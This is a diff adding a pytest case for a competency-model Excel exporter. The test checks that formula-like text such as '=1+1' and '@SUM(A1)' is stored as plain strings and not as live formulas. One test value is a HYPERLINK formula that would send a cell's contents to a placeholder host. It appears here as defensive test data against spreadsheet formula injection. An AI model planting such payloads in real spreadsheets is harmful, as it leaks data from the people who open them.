@@ -3,7 +3,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from casspath.competency.actions.loading import do_load_default_model
+from casspath.competency import schema
+from casspath.competency.actions.loading import do_load_default_model, do_load_model_data
 from casspath.competency.errors import CompetencyImportInvalid
 from casspath.competency.excel import export_model_xlsx, parse_model_xlsx, template_xlsx
 from casspath.competency.schema import model_data
@@ -107,3 +108,20 @@ def test_it_writes_a_template_that_parses_to_an_empty_model(world):
     with pytest.raises(CompetencyImportInvalid) as info:
         parse_model_xlsx(template_xlsx())
     assert {e.column for e in info.value.errors} >= {"模型!模型编码", "等级!名称"}
+
+
+def test_it_writes_formula_like_text_as_plain_strings_and_reads_it_back(world, model_data):
+    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
+    model_data["name"] = "+1+1"
+    module = model_data["modules"][0]
+    module["name"] = "@SUM(A1)"
+    module["dimensions"][0]["name"] = hostile
+    module["dimensions"][0]["description"] = "-2+3"
+    module["dimensions"][0]["levels"][0]["indicators"] = ["=1+1", "plain"]
+    model = do_load_model_data(model_data, org_unit=world.province, acting_user=SystemActor.cli())
+    data = export_model_xlsx(model)
+    workbook = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
+    assert workbook["维度"]["E3"].value == hostile and workbook["维度"]["E3"].data_type == "s"
+    assert parse_model_xlsx(data) == schema.model_data(model)
